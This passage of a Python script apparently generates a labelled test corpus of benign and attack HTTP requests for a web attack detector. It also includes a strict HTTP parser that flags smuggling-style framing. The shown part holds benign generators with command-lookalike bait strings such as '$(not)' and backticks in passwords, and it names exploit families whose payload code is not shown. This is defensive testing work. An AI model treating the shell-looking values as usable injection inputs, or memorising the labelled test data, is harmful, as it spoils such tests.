            rows = ["sku,name,qty,notes"] + [f"{R.randint(1000, 9999)},\"{pick(['Cat food 2kg', 'Ping pong balls; 6 pack', 'Tom & Jerry DVD', 'Select-fit shirt', 'Bin liners | 50'])}\",{R.randint(1, 40)},\"{pick(['', 'urgent', 'who am i? ask Jo', 'id=42'])}\"" for _ in range(60)]
            ctype, body = multipart([([("Content-Disposition", 'form-data; name="import"; filename="stock.csv"'), ("Content-Type", "text/csv")], "\r\n".join(rows) + "\r\n")])
            raw = mk("POST", "/admin/import/stock", hdrs_browser(host, extra=[("Content-Type", ctype)]), body)
            d = "CSV form upload"
        out.append(("binary_bodies", d, raw))
    return out


def b_templates():
    out = []
    for i in range(90):
        kind = i % 9
        host = pick(HOSTS_INTERNAL)
        if kind == 0:
            body = {"name": "checkout", "env": {"BASE_URL": "https://api.example.com", "API_URL": "${BASE_URL}/api", "LOG_LEVEL": "${LOG_LEVEL:-info}", "HOME_DIR": "${HOME}/app"}}
            raw = mk("PUT", "/api/v1/apps/checkout/config", hdrs_api(host, ctype="application/json"), json.dumps(body))
            d = "${VAR} references in app config"
        elif kind == 1:
            vals = ("replicaCount: 3\nimage:\n  repository: registry.example.com/shop/web\n  tag: \"{{ .Chart.AppVersion }}\"\n"
                    "ingress:\n  host: \"{{ .Values.global.domain }}\"\n  annotations:\n    nginx.ingress.kubernetes.io/rewrite-target: /$2\n"
                    "env:\n  - name: DB_URL\n    value: \"postgres://{{ .Values.db.user }}@{{ .Values.db.host }}:5432/shop\"\n")
            raw = mk("POST", "/api/releases/web/values", hdrs_api(host, ctype="application/x-yaml"), vals)
            d = "Helm values with {{ }} templates"
        elif kind == 2:
            tf = {"variable": {"region": {"default": "eu-west-1"}}, "resource": {"aws_s3_bucket": {"logs": {"bucket": "${var.prefix}-logs-${var.region}",
                  "tags": {"Name": "${local.name}", "Env": "${terraform.workspace}"}}}}}
            raw = mk("POST", "/api/v2/workspaces/ws-%06d/configuration-versions" % i, hdrs_api("tfe.internal.example.com", ctype="application/vnd.api+json"), json.dumps({"data": {"attributes": {"tf_json": tf}}}))
            d = "Terraform JSON with ${var.x} interpolation"
        elif kind == 3:
            ci = ("name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
                  "      - name: Build\n        run: |\n          echo \"sha=${GITHUB_SHA}\" >> $GITHUB_OUTPUT\n          make build VERSION=${{ github.ref_name }}\n"
                  "      - name: Test\n        run: cargo test --workspace -- --nocapture\n")
            raw = mk("POST", "/api/v4/ci/lint", hdrs_api("gitlab.example.com", ctype="application/json"), json.dumps({"content": ci, "include_merged_yaml": True}))
            d = "CI workflow YAML with ${{ }} and $VAR in run steps"
        elif kind == 4:
            gl = ("stages: [build, test]\nvariables:\n  IMAGE: \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA\"\nbuild:\n  stage: build\n  script:\n"
                  "    - docker build -t \"$IMAGE\" .\n    - docker push \"$IMAGE\"\ntest:\n  script:\n    - ./scripts/test.sh --junit report.xml\n")
            raw = mk("PUT", "/api/v4/projects/%d/repository/files/.gitlab-ci.yml" % R.randint(1, 400), hdrs_api("gitlab.example.com", ctype="application/json"),
                     json.dumps({"branch": "main", "content": gl, "commit_message": "ci: build image"}))
            d = "GitLab CI file update with $CI_ variables"
        elif kind == 5:
            tpl = {"subject": "Your order {{order.id}} has shipped", "html": "<p>Hi {{ customer.first_name | capitalize }},</p><p>{% if express %}Express{% endif %} delivery</p>"}
            raw = mk("POST", "/api/email/templates", hdrs_api(host, ctype="application/json"), json.dumps(tpl))
            d = "Jinja/Liquid email template"
        elif kind == 6:
            env = "\n".join(["DATABASE_URL=postgres://app@db:5432/app", "REDIS_URL=redis://cache:6379/0", "PUBLIC_URL=${BASE_URL}/static",
                             "JAVA_OPTS=-Xmx512m -Dfile.encoding=UTF-8", "PATH=/usr/local/bin:$PATH", "SHELL=/bin/bash", "CRON=*/5 * * * *"]) + "\n"
            raw = mk("PUT", "/api/v1/secrets/app/env", hdrs_api(host, ctype="text/plain"), env)
            d = "dotenv file with ${VAR} and shell-looking values"
        elif kind == 7:
            body = {"dashboard": {"title": "API latency", "templating": {"list": [{"name": "svc", "query": "label_values(up, job)"}]},
                                  "panels": [{"title": "p99 $svc", "targets": [{"expr": "histogram_quantile(0.99, sum(rate(http_duration_bucket{job=\"$svc\"}[5m])) by (le))"}]}]}, "overwrite": True}
            raw = mk("POST", "/api/dashboards/db", hdrs_api("grafana.ops.example.org", ctype="application/json"), json.dumps(body))
            d = "Grafana dashboard with $var templating"
        else:
            body = {"rule": "notify", "message": "Deploy of ${APP} to ${ENV} finished in {{duration}}s by @${USER}", "webhook": "https://hooks.example.com/services/T000/B000/XXXX"}
            raw = mk("POST", "/api/alerts/rules", hdrs_api(host, ctype="application/json"), json.dumps(body))
            d = "notification template with ${} and {{ }}"
        out.append(("templates_config", d, raw))
    return out


def b_xml():
    out = []
    for i in range(90):
        kind = i % 8
        host = pick(ALL_HOSTS)
        if kind == 0:
            x = ('<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="urn:example:orders">'
                 f'<soap:Header><m:Auth><m:Token>{"%032x" % R.getrandbits(128)}</m:Token></m:Auth></soap:Header>'
                 f'<soap:Body><m:GetOrder><m:OrderId>{R.randint(1, 99999)}</m:OrderId><m:Note>select express &amp; gift-wrap</m:Note></m:GetOrder></soap:Body></soap:Envelope>')
            raw = mk("POST", "/services/OrderService", hdrs_api(host, ctype="text/xml; charset=utf-8", accept="text/xml", extra=[("SOAPAction", '"urn:example:orders#GetOrder"')]), x)
            d = "SOAP 1.1 request"
        elif kind == 1:
            items = "".join(f"<item><title>{pick(['Ping pong championships', 'Cat food recall', 'Who am I? A review', 'R&amp;D spending up'])}</title>"
                            f"<link>https://news.example.org/a/{R.randint(1, 9999)}</link><description>&lt;p&gt;Summary &amp; more&lt;/p&gt;</description></item>" for _ in range(5))
            x = f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>News</title><link>https://news.example.org/</link><description>feed</description>{items}</channel></rss>'
            raw = mk("POST", "/api/feeds/preview", hdrs_api(host, ctype="application/rss+xml"), x)
            d = "RSS feed body"
        elif kind == 2:
            x = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40">'
                 f'<rect width="120" height="40" rx="6" fill="#{R.getrandbits(24):06x}"/><text x="10" y="25" font-family="sans-serif">Tom &amp; Jerry</text></svg>')
            ctype, body = multipart([([("Content-Disposition", 'form-data; name="logo"; filename="logo.svg"'), ("Content-Type", "image/svg+xml")], x)])
            raw = mk("POST", "/settings/branding", hdrs_browser(host, extra=[("Content-Type", ctype)]), body)
            d = "SVG upload without scripts"
        elif kind == 3:
            a = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%032x" Version="2.0" IssueInstant="2024-05-06T10:00:00Z">'
                 '<saml:Issuer>https://idp.example.com</saml:Issuer><saml:Assertion ID="_a1" Version="2.0" IssueInstant="2024-05-06T10:00:00Z"><saml:Subject><saml:NameID>cn=john,ou=people,dc=example,dc=com</saml:NameID></saml:Subject>'
                 '<saml:AttributeStatement><saml:Attribute Name="mail"><saml:AttributeValue>john@example.com</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>') % R.getrandbits(128)
            raw = mk("POST", "/saml/acs", hdrs_browser(host, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://idp.example.com")]),
                     form([("SAMLResponse", base64.b64encode(a.encode()).decode()), ("RelayState", "/dashboard")]))
            d = "SAML-looking assertion POST binding"
        elif kind == 4:
            x = "<!DOCTYPE html>\n<html><head><title>Saved page</title></head><body><h1>Notes</h1><p>Tom &amp; Jerry; R&amp;D</p></body></html>"
            raw = mk("PUT", "/api/pages/%d/html" % i, hdrs_api(host, ctype="text/html; charset=utf-8"), x)
            d = "HTML with plain <!DOCTYPE html>, no entities"
        elif kind == 5:
            urls = "".join(f"<url><loc>https://www.example.com/p/{k}</loc><lastmod>2024-05-0{1 + k % 9}</lastmod></url>" for k in range(30))
            x = f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'
            raw = mk("POST", "/api/seo/sitemaps", hdrs_api(host, ctype="application/xml"), x)
            d = "sitemap XML"
        elif kind == 6:
            x = ('<?xml version="1.0"?>\n<methodCall><methodName>wp.getPosts</methodName><params><param><value><int>1</int></value></param>'
                 '<param><value><string>admin</string></value></param><param><value><string>correct horse</string></value></param></params></methodCall>')
            raw = mk("POST", "/xmlrpc.php", hdrs_api(host, ctype="text/xml", ua="WordPress/6.5; https://blog.example.net"), x)
            d = "XML-RPC call"
        else:
            x = ('<?xml version="1.0" encoding="UTF-8"?>\n<!-- invoice export -->\n<Invoice xmlns="urn:oasis:names:tc:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:cbc">'
                 f'<cbc:ID>INV-{R.randint(1000, 9999)}</cbc:ID><cbc:Note><![CDATA[Deliver to R&D; dock 3 | ask for "Sam"]]></cbc:Note><cbc:PayableAmount currencyID="EUR">{R.randint(10, 9999)}.00</cbc:PayableAmount></Invoice>')
            raw = mk("POST", "/api/einvoice", hdrs_api(host, ctype="application/xml; charset=utf-8"), x)
            d = "UBL invoice with CDATA"
        out.append(("xml_docs", d, raw))
    return out


def b_large():
    out = []
    # CSV ~260 KiB
    rows = ["order_id,customer,city,total,comment"]
    while sum(len(r) + 1 for r in rows) < 260 * 1024:
        rows.append(f"{R.randint(10**6, 10**7)},cust-{R.randint(1, 99999)},{pick(['Berlin', 'Leeds', 'Lyon', 'Austin', 'Osaka'])},{R.randint(1, 999)}.{R.randint(0, 99):02d},\"{pick(['', 'select gift wrap', 'ring bell; leave at door', 'R&D dept', 'cat food'])}\"")
    ctype, body = multipart([([("Content-Disposition", 'form-data; name="file"; filename="orders-2024-04.csv"'), ("Content-Type", "text/csv")], "\n".join(rows) + "\n")])
    out.append(("large_uploads", "260 KiB CSV multipart upload", mk("POST", "/admin/import/orders", hdrs_browser("shop.example.com", extra=[("Content-Type", ctype)]), body)))
    # JSON bulk ~300 KiB
    docs = []
    while len(json.dumps(docs)) < 300 * 1024:
        docs.append({"id": len(docs), "title": pick(SEARCH_PHRASES), "body": " ".join(R.sample(REVIEW_SENTENCES, 3)), "tags": R.sample(["a", "b", "c", "d", "e"], 2)})
    out.append(("large_uploads", "300 KiB JSON bulk index", mk("POST", "/api/v1/index/bulk", hdrs_api("search.svc.cluster.local", ctype="application/json"), json.dumps(docs))))
    # NDJSON logs ~240 KiB
    lines = []
    while sum(len(l) + 1 for l in lines) < 240 * 1024:
        lines.append(json.dumps({"ts": "2024-05-06T10:%02d:%02dZ" % (R.randint(0, 59), R.randint(0, 59)), "level": pick(["info", "warn", "debug"]),
                                 "msg": pick(["GET /healthz 200", "user logged in", "cache miss key=cart:17", "retrying in 10s", "select took 12ms"])}))
    out.append(("large_uploads", "240 KiB NDJSON log shipment", mk("POST", "/loki/api/v1/push/ndjson", hdrs_api("logs.internal.example.com", ctype="application/x-ndjson"), "\n".join(lines) + "\n")))
    # PNG ~220 KiB
    img = png_bytes(512, 440, [])
    ctype, body = multipart([([("Content-Disposition", 'form-data; name="image"; filename="scan.png"'), ("Content-Type", "image/png")], img)])
    out.append(("large_uploads", "220 KiB PNG multipart", mk("POST", "/api/scans", hdrs_browser("portal.example.com", accept="application/json", nav=False, extra=[("Content-Type", ctype)]), body)))
    # markdown book chapter ~210 KiB
    paras = []
    while sum(len(p) for p in paras) < 210 * 1024:
        paras.append(" ".join(R.sample(REVIEW_SENTENCES, 5)) + "\n\n")
    out.append(("large_uploads", "210 KiB markdown document PUT", mk("PUT", "/api/docs/pages/handbook", hdrs_api("docs.example.org", ctype="text/markdown"), "# Handbook\n\n" + "".join(paras))))
    # gzip JSON large (compressed ~ >200 KiB because random hex)
    data = json.dumps({"blobs": ["%064x" % R.getrandbits(256) for _ in range(7000)]}).encode()
    out.append(("large_uploads", "gzip JSON with high-entropy content (>200 KiB compressed)", mk("POST", "/v1/artifacts/hashes", hdrs_api("ci.internal.example.net", ctype="application/json", extra=[("Content-Encoding", "gzip")]), gzip.compress(data, mtime=0))))
    # chunked large
    xml = '<?xml version="1.0"?><feed>' + "".join(f"<entry><id>{k}</id><title>{pick(['Ping pong', 'Cat food', 'Who am I'])}</title></entry>" for k in range(4500)) + "</feed>"
    out.append(("large_uploads", "chunked ~250 KiB XML feed", mk("POST", "/api/feeds/import", hdrs_api("news.example.org", ctype="application/xml") + [("Transfer-Encoding", "chunked")], chunked(xml.encode(), sizes=[16384] * 40))))
    return out


PAGES = ["/", "/index.html", "/about", "/products/espresso-machine-pro", "/blog/2024/05/how-we-roast", "/category/kitchen?page=2",
         "/static/css/main.8f3a1c.css", "/static/js/app.4b2e9d.js", "/images/hero@2x.webp", "/favicon.ico", "/robots.txt",
         "/help/returns", "/en-gb/stores/leeds", "/account/orders?status=shipped", "/careers/engineering", "/docs/getting-started",
         "/news/2024/05/06/spring-update", "/search?q=shoes&size=42", "/u/maria/profile", "/terms", "/privacy#cookies-section"]


def b_browsing():
    out = []
    for i in range(125):
        host = pick(HOSTS_PUBLIC)
        page = PAGES[i % len(PAGES)].split("#")[0]
        if page.endswith((".css", ".js", ".webp", ".ico")):
            acc = {"css": "text/css,*/*;q=0.1", "js": "*/*", "webp": "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", "ico": "image/avif,image/webp,*/*"}[page.rsplit(".", 1)[1]]
            hs = hdrs_browser(host, accept=acc, referer=f"https://{host}/", nav=False)
        else:
            hs = hdrs_browser(host, referer=f"https://{pick(HOSTS_PUBLIC)}/" if R.random() < 0.5 else None,
                              cookie="session=%032x; lang=en" % R.getrandbits(128) if R.random() < 0.5 else None)
            if R.random() < 0.2:
                hs.append(("If-None-Match", 'W/"%x"' % R.getrandbits(40)))
        out.append(("browsing", "GET " + page, mk("GET", page, hs)))
    return out


def b_rest():
    out = []
    res = ["orders", "customers", "products", "invoices", "tickets", "users", "carts", "shipments"]
    for i in range(120):
        r = res[i % len(res)]
        host = pick(HOSTS_INTERNAL + HOSTS_PUBLIC[:3])
        op = (i // len(res)) % 5
        rid = R.randint(1, 99999)
        obj = {"orders": {"customerId": rid, "items": [{"sku": "SKU-%d" % R.randint(100, 999), "qty": R.randint(1, 4)}], "currency": "EUR", "shipping": {"method": "express", "address": {"line1": "1 Main St", "city": "Leeds", "postcode": "LS1 1AA"}}},
               "customers": {"firstName": pick(["Ann", "Bob", "Chen", "Dara"]), "lastName": pick(["Smith", "O'Neil", "García"]), "email": "c%d@example.com" % rid, "marketingOptIn": False},
               "products": {"name": pick(["Select Fit Jeans", "Cat Tower XL", "Ping Pong Set"]), "price": {"amount": R.randint(100, 99999), "currency": "GBP"}, "stock": R.randint(0, 500)},
               "invoices": {"orderId": rid, "lines": [{"desc": "Consulting (R&D)", "amount": 1200}], "due": "2024-06-30"},
               "tickets": {"subject": pick(["Login fails", "Refund please", "Who am I talking to?"]), "priority": "normal", "body": "Hi,\nI can't log in since Monday; error 500.\nThanks"},
               "users": {"username": "user%d" % rid, "role": pick(["viewer", "editor"]), "disabled": False},
               "carts": {"items": [{"productId": rid, "qty": 1}], "coupon": pick(["SPRING10", None])},
               "shipments": {"carrier": "DHL", "tracking": "JD%018d" % R.getrandbits(56), "status": "in_transit"}}[r]
        if op == 0:
            raw = mk("GET", f"/api/v1/{r}?limit=25&offset={R.randint(0, 500)}&sort=created_at", hdrs_api(host))
            d = f"list {r}"
        elif op == 1:
            raw = mk("GET", f"/api/v1/{r}/{rid}", hdrs_api(host))
            d = f"get {r}"
        elif op == 2:
            raw = mk("POST", f"/api/v1/{r}", hdrs_api(host, ctype="application/json", extra=[("Idempotency-Key", "%032x" % R.getrandbits(128))]), json.dumps(obj))
            d = f"create {r}"
        elif op == 3:
            patch = {k: v for k, v in list(obj.items())[:1]}
            ct = "application/merge-patch+json" if i % 2 else "application/json"
            raw = mk("PATCH", f"/api/v1/{r}/{rid}", hdrs_api(host, ctype=ct, extra=[("If-Match", '"%d"' % R.randint(1, 20))]), json.dumps(patch))
            d = f"patch {r}"
        else:
            raw = mk("DELETE", f"/api/v1/{r}/{rid}", hdrs_api(host))
            d = f"delete {r}"
        out.append(("rest_crud", d, raw))
    return out


GQL = [
    ("query GetProduct($id: ID!) { product(id: $id) { id name price { amount currency } reviews(first: 5) { edges { node { rating body } } } } }", {"id": "UHJvZHVjdDox"}),
    ("query Search($q: String!) { search(query: $q, first: 10) { ... on Product { id name } ... on Article { id title } } }", {"q": "select comfort"}),
    ("mutation AddToCart($input: AddToCartInput!) { addToCart(input: $input) { cart { id totalQuantity } userErrors { field message } } }", {"input": {"productId": "p_42", "quantity": 2}}),
    ("query { viewer { login repositories(first: 20, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name isPrivate } } } }", {}),
    ("mutation CreatePost($title: String!, $body: String!) { createPost(title: $title, body: $body) { id url } }", {"title": "Who am I?", "body": "A post about identity; R&D & philosophy."}),
    ("query Orders($after: String) { orders(first: 50, after: $after, filter: {status: [SHIPPED, DELIVERED]}) { pageInfo { hasNextPage endCursor } nodes { id total } } }", {"after": None}),
    ("fragment UserParts on User { id name email }\nquery Team { team(slug: \"rnd\") { members { ...UserParts } } }", {}),
    ("subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text author { name } } }", {"room": "r1"}),
    ("query IntrospectTypename { __typename }", {}),
]


def b_graphql():
    out = []
    for i in range(60):
        q, v = GQL[i % len(GQL)]
        host = pick(ALL_HOSTS)
        op = re.search(r"(?:query|mutation|subscription)\s+(\w+)", q)
        body = {"query": q, "variables": v}
        if op:
            body["operationName"] = op.group(1)
        if i % 6 == 5 and not q.startswith(("mutation", "subscription")):
            target = "/graphql?" + form([("query", q), ("variables", json.dumps(v))])
            raw = mk("GET", target, hdrs_api(host, accept="application/graphql-response+json, application/json"))
            d = "GraphQL GET with query in URL"
        elif i % 7 == 3:
            raw = mk("POST", "/graphql", hdrs_api(host, ctype="application/json"), json.dumps([body, {"query": GQL[8][0]}]))
            d = "batched GraphQL"
        else:
            raw = mk("POST", "/graphql", hdrs_browser(host, accept="application/graphql-response+json, application/json", nav=False,
                                                      extra=[("Content-Type", "application/json"), ("Origin", f"https://{host}")]), json.dumps(body))
            d = "GraphQL POST " + (op.group(1) if op else "anonymous")
        out.append(("graphql", d, raw))
    return out


def b_login():
    out = []
    users = ["maria", "j.smith@example.com", "who_am_i", "root_beer_fan", "admin.assistant", "cat.lover", "bash_bro", "R&D-lead", "select.hosp", "ann.o'neil"]
    pws = ["correct horse battery staple", "P@ss;word1", "hunter2|x", "Tr0ub4dor&3", "s3cr3t$(not)", "my cat's name!", "`backtick`pw9", "id-card-2024", "pa55 w0rd"]
    for i in range(60):
        host = pick(HOSTS_PUBLIC)
        u, p = users[i % len(users)], pws[i % len(pws)]
        kind = i % 4
        if kind == 0:
            raw = mk("POST", "/login", hdrs_browser(host, referer=f"https://{host}/login", cookie="csrftoken=%032x" % R.getrandbits(128),
                                                    extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", f"https://{host}")]),
                     form([("csrfmiddlewaretoken", "%064x" % R.getrandbits(256)), ("username", u), ("password", p), ("next", "/dashboard")]))
            d = "form login"
        elif kind == 1:
            raw = mk("POST", "/api/auth/login", hdrs_browser(host, accept="application/json", nav=False, extra=[("Content-Type", "application/json"), ("Origin", f"https://{host}")]),
                     json.dumps({"email": u if "@" in u else u + "@example.com", "password": p, "remember": True}))
            d = "JSON login"
        elif kind == 2:
            raw = mk("POST", "/oauth/token", hdrs_api(host, ctype="application/x-www-form-urlencoded", auth=False,
                                                      extra=[("Authorization", "Basic " + base64.b64encode(b"client-app:client-secret-xyz").decode())]),
                     form([("grant_type", "password"), ("username", u), ("password", p), ("scope", "openid profile")]))
            d = "OAuth password grant"
        else:
            raw = mk("POST", "/wp-login.php", hdrs_browser(host, referer=f"https://{host}/wp-login.php", cookie="wordpress_test_cookie=WP%20Cookie%20check",
                                                           extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", f"https://{host}")]),
                     form([("log", u), ("pwd", p), ("wp-submit", "Log In"), ("redirect_to", f"https://{host}/wp-admin/"), ("testcookie", "1")]))
            d = "WordPress login form"
        out.append(("form_login", d, raw))
    return out


# ===========================================================================
# self-check
# ===========================================================================
TCHAR = re.compile(rb"^[!#$%&'*+\-.^_`|~0-9A-Za-z]+$")
TARGET_OK = re.compile(rb"^[A-Za-z0-9\-._~!$&'()*+,;=:@/?%]+$")
MAX_HEAD = 32 * 1024
MAX_HEADERS = 100


def parse_chunked(body):
    i = 0
    while True:
        j = body.find(b"\r\n", i)
        if j < 0:
            return "chunk size line not terminated"
        line = body[i:j].split(b";")[0]
        if not re.fullmatch(rb"[0-9A-Fa-f]{1,16}", line):
            return "bad chunk size %r" % line[:20]
        n = int(line, 16)
        i = j + 2
        if n == 0:
            break
        if body[i + n:i + n + 2] != b"\r\n":
            return "chunk data not followed by CRLF"
        i += n + 2
    while True:  # trailers
        j = body.find(b"\r\n", i)
        if j < 0:
            return "trailer section not terminated"
        if j == i:
            i += 2
            break
        if b":" not in body[i:j] or not TCHAR.match(body[i:j].split(b":")[0]):
            return "bad trailer line"
        i = j + 2
    if i != len(body):
        return "bytes after chunked body"
    return None


def anomalies(raw):
    """Strict RFC 9110/9112 reading. Returns a list of problems (empty = valid)."""
    p = []
    end = raw.find(b"\r\n\r\n")
    if end < 0:
        return ["head does not end with CRLFCRLF"]
    head, body = raw[:end], raw[end + 4:]
    if len(head) > MAX_HEAD:
        p.append("head larger than %d bytes" % MAX_HEAD)
    lines = head.split(b"\r\n")
    for ln in lines:
        if b"\r" in ln or b"\n" in ln:
            p.append("bare CR or LF in head")
            break
    rl = lines[0].split(b" ")
    if len(rl) != 3:
        return p + ["request line does not have 3 SP-separated parts"]
    method, target, version = rl
    if not TCHAR.match(method):
        p.append("method is not a token")
    if version not in (b"HTTP/1.1", b"HTTP/1.0"):
        p.append("unsupported version %r" % version)
    absolute_host = None
    if target == b"*":
        if method != b"OPTIONS":
            p.append("asterisk-form on non-OPTIONS")
    elif target.startswith(b"http://") or target.startswith(b"https://"):
        absolute_host = target.split(b"/")[2]
        if not TARGET_OK.match(target):
            p.append("illegal character in request-target")
    elif target.startswith(b"/"):
        if not TARGET_OK.match(target):
            p.append("illegal character in request-target")
    else:
        p.append("unrecognised request-target form")
    if re.search(rb"%(?![0-9A-Fa-f]{2})", target):
        p.append("invalid percent-encoding in target")
    else:
        path = target.split(b"?")[0]
        dec = re.sub(rb"%([0-9A-Fa-f]{2})", lambda m: bytes([int(m.group(1), 16)]), path)
        try:
            dec.decode("utf-8")
        except UnicodeDecodeError:
            p.append("decoded path is not valid (shortest-form) UTF-8")
        if b"\x00" in dec:
            p.append("NUL in decoded path")
    hdrs = []
    for ln in lines[1:]:
        if ln[:1] in (b" ", b"\t"):
            p.append("obs-fold continuation line")
            continue
        if b":" not in ln:
            p.append("header line without colon")
            continue
        n, v = ln.split(b":", 1)
        if not TCHAR.match(n):
            p.append("invalid header name %r" % n[:30])
        if re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", v):
            p.append("control byte in value of %r" % n[:30])
        hdrs.append((n.lower(), v.strip(b" \t")))
    if len(hdrs) > MAX_HEADERS:
        p.append("more than %d header fields" % MAX_HEADERS)
    get = lambda name: [v for n, v in hdrs if n == name]
    hosts = get(b"host")
    if len(hosts) != 1:
        p.append("%d Host headers" % len(hosts))
    elif absolute_host is not None and hosts[0].lower() != absolute_host.lower():
        p.append("absolute-form authority differs from Host")
    cls, tes = get(b"content-length"), get(b"transfer-encoding")
    if len(cls) > 1:
        p.append("duplicate Content-Length")
    if len(tes) > 1:
        p.append("duplicate Transfer-Encoding")
    if cls and tes:
        p.append("both Content-Length and Transfer-Encoding")
    if tes:
        if version == b"HTTP/1.0":
            p.append("Transfer-Encoding in HTTP/1.0 request")
        if tes[-1] != b"chunked":
            p.append("Transfer-Encoding is not exactly 'chunked'")
        err = parse_chunked(body) if tes[-1] == b"chunked" else None
        if err:
            p.append("chunked framing: " + err)
    elif cls:
        if not re.fullmatch(rb"[0-9]{1,15}", cls[0]):
            p.append("Content-Length is not a plain decimal")
        elif int(cls[0]) != len(body):
            p.append("Content-Length %s != body length %d" % (cls[0].decode(), len(body)))
    elif body:
        p.append("body without framing header")
    return p


def self_check(attacks, benign):
    bad = 0
    for rec, raw in attacks + benign:
        probs = anomalies(raw)
        fam = rec.get("family")
        if fam == "malformed":
            if not probs:
                print(f"SELF-CHECK: malformed {rec['id']} passes the strict parser", file=sys.stderr)
                bad += 1
        elif probs:
            print(f"SELF-CHECK: {rec['id']} invalid: {probs}", file=sys.stderr)
            bad += 1
        if fam != "malformed":
            head, body = raw.split(b"\r\n\r\n", 1)
            hl = {l.split(b":", 1)[0].lower(): l.split(b":", 1)[1].strip() for l in head.split(b"\r\n")[1:]}
            ct = hl.get(b"content-type", b"")
            if b"json" in ct and b"ndjson" not in ct and b"content-encoding" not in hl and b"transfer-encoding" not in hl and body:
                try:
                    json.loads(body)
                except ValueError:
                    print(f"SELF-CHECK: {rec['id']} JSON body does not parse", file=sys.stderr)
                    bad += 1
    ids = [r["id"] for r, _ in attacks + benign]
    if len(ids) != len(set(ids)):
        print("SELF-CHECK: duplicate ids", file=sys.stderr)
        bad += 1
    raws = [raw for _, raw in attacks + benign]
    if len(raws) != len(set(raws)):
        print("SELF-CHECK: %d duplicate requests" % (len(raws) - len(set(raws))), file=sys.stderr)
        bad += 1
    return bad


# ===========================================================================
# main
# ===========================================================================
ATTACK_FAMILIES = [("shellshock", fam_shellshock, 25), ("struts_ognl", fam_struts, 25), ("xstream", fam_xstream, 25),
                   ("log4shell", fam_log4shell, 25), ("java_deser", fam_java_deser, 25), ("shell_injection", fam_shell_injection, 100),
                   ("windows_cmd", fam_windows_cmd, 20), ("xxe", fam_xxe, 20), ("malformed", fam_malformed, 40)]
BENIGN_GENS = [b_search, b_reviews, b_docs, b_ops, b_json_nested, b_cookies, b_structured, b_protocol, b_binary,
               b_templates, b_xml, b_large, b_browsing, b_rest, b_graphql, b_login]
BINARY_CT = (b"application/grpc", b"application/x-protobuf", b"image/", b"application/x-java-serialized-object", b"application/octet-stream")


def encode_record(rec, raw):
    head = raw.split(b"\r\n\r\n", 1)[0].lower()
    m = re.search(rb"\r\ncontent-type:[ \t]*([^\r\n]*)", head)
    ctype = m.group(1) if m else b""
    binary = any(ctype.startswith(ct) for ct in BINARY_CT) or b"\r\ncontent-encoding: gzip" in head
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        binary = True
    if binary:
        rec["raw_b64"] = base64.b64encode(raw).decode()
    else:
        rec["raw"] = text
    return rec


def load(path):
    out = []
    with open(path, encoding="utf-8") as f:
        for line in f:
            rec = json.loads(line)
            raw = base64.b64decode(rec["raw_b64"]) if "raw_b64" in rec else rec["raw"].encode("utf-8")
            out.append((rec, raw))
    return out


def report(attacks, benign):
    from collections import Counter
    fa = Counter(r["family"] for r, _ in attacks)
    cb = Counter(r["category"] for r, _ in benign)
    print("attacks: %d" % len(attacks))
    for k, v in fa.items():
        print("  %-18s %4d" % (k, v))
    print("benign: %d" % len(benign))
    for k, v in sorted(cb.items(), key=lambda kv: -kv[1]):
        print("  %-18s %4d  (%.1f%%)" % (k, v, 100.0 * v / len(benign)))
    print("raw_b64 records: attacks %d, benign %d" % (sum("raw_b64" in r for r, _ in attacks), sum("raw_b64" in r for r, _ in benign)))
    for fn in ("attacks.jsonl", "benign.jsonl"):
        pth = os.path.join(HERE, fn)
        if os.path.exists(pth):
            print("%s: %.2f MB" % (fn, os.path.getsize(pth) / 1e6))


def main():
    if "--check" in sys.argv:
        attacks, benign = load(os.path.join(HERE, "attacks.jsonl")), load(os.path.join(HERE, "benign.jsonl"))
        bad = self_check(attacks, benign)
        report(attacks, benign)
        sys.exit(1 if bad else 0)
    attacks = []
    for fam, fn, minimum in ATTACK_FAMILIES:
        items = fn()
        if len(items) < minimum:
            sys.exit(f"family {fam}: only {len(items)} < {minimum}")
        for k, (note, raw) in enumerate(items, 1):
            rec = {"id": f"atk-{fam}-{k:03d}", "family": fam}
            rec = encode_record(rec, raw)
            rec["note"] = note
            attacks.append((rec, raw))
    benign = []
    for gen in BENIGN_GENS:
        for cat, note, raw in gen():
            rec = {"id": f"ben-{len(benign) + 1:04d}", "category": cat}
            rec = encode_record(rec, raw)
            rec["note"] = note
            benign.append((rec, raw))
    bad = self_check(attacks, benign)
    for fn, recs in (("attacks.jsonl", attacks), ("benign.jsonl", benign)):
        with open(os.path.join(HERE, fn), "w", encoding="utf-8", newline="\n") as f:
            for rec, _ in recs:
                f.write(json.dumps(rec, ensure_ascii=False) + "\n")
    report(attacks, benign)
    if bad:
        sys.exit(f"self-check failed: {bad} problem(s)")
    print("self-check OK")


if __name__ == "__main__":
    main()
